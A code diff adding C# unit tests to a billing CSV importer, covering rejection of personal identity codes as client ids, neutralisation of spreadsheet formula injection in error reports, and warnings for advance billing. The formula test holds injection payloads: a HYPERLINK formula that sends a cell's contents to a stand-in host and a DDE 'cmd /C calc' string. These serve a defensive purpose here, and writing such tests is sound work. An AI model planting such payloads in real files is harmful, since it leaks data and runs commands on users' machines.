@@ -77,6 +77,45 @@ public sealed class ImportBillingFileTests : IDisposable
         Assert.Equal(new ImportProgress("creating", 2, 2), reports[^1]);
     }
 
+    [Fact]
+    public async Task GivenAHenkilotunnusAsClientId_WhenImported_ThenRejectedNamingLineAndColumn_AndTheReportNeverHoldsIt()
+    {
+        var store = NewStore();
+        var use = Arrange("hetu.csv", Csv(Line("L1", "131052-308T"), Line("L2", "B")), store);
+
+        var outcome = await use.RunAsync("hetu.csv", null, null, CancellationToken.None);
+
+        var report = await File.ReadAllTextAsync(outcome.ErrorReport!);
+        Assert.Equal("line_number,column,reason,client_id\n2,client_id,looks like a henkilötunnus: an id must never be a personal identity code (use the billing system's own number),\n", report);
+        Assert.DoesNotContain("131052", report, StringComparison.Ordinal);
+        Assert.Equal(["B"], (await AllAsync(store)).Select(i => i.State.Facts.ClientId));
+    }
+
+    [Fact]
+    public async Task GivenClientIdsThatAreFormulas_WhenReported_ThenNoCellStartsAFormula()
+    {
+        var use = Arrange("formula.csv", Csv(Line("L1", "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", 0m), Line("L2", "@SUM(1+1)*cmd|' /C calc'!A0", 0m), Line("L3", "+1", 0m), Line("L4", "-1", 0m)));
+
+        var outcome = await use.RunAsync("formula.csv", null, null, CancellationToken.None);
+
+        var rows = (await File.ReadAllLinesAsync(outcome.ErrorReport!)).Skip(1).ToList();
+        Assert.Equal(4, rows.Count);
+        Assert.All(rows, row => Assert.Matches("^[0-9]+,amount,zero or negative amount,\"'[=@+-]", row));
+    }
+
+    [Fact]
+    public async Task GivenOnlyWarnings_WhenImported_ThenTheErrorReportListsThemAsWarnings()
+    {
+        var use = Arrange("advance.csv", Csv(Line("L1", "A", changes: ("service_date", "2026-03-16"))));
+
+        var outcome = await use.RunAsync("advance.csv", null, null, CancellationToken.None);
+
+        Assert.Equal((1, 0, 1), (outcome.Report!.InvoicesCreated, outcome.Report.Rejected, outcome.Report.Warnings));
+        Assert.Equal(
+            "line_number,column,reason,client_id\n2,service_date,warning (line imported): service_date is after the invoice_date (billed in advance): check that it is meant,A\n",
+            await File.ReadAllTextAsync(outcome.ErrorReport!));
+    }
+
     public void Dispose()
     {
         if (Directory.Exists(root))
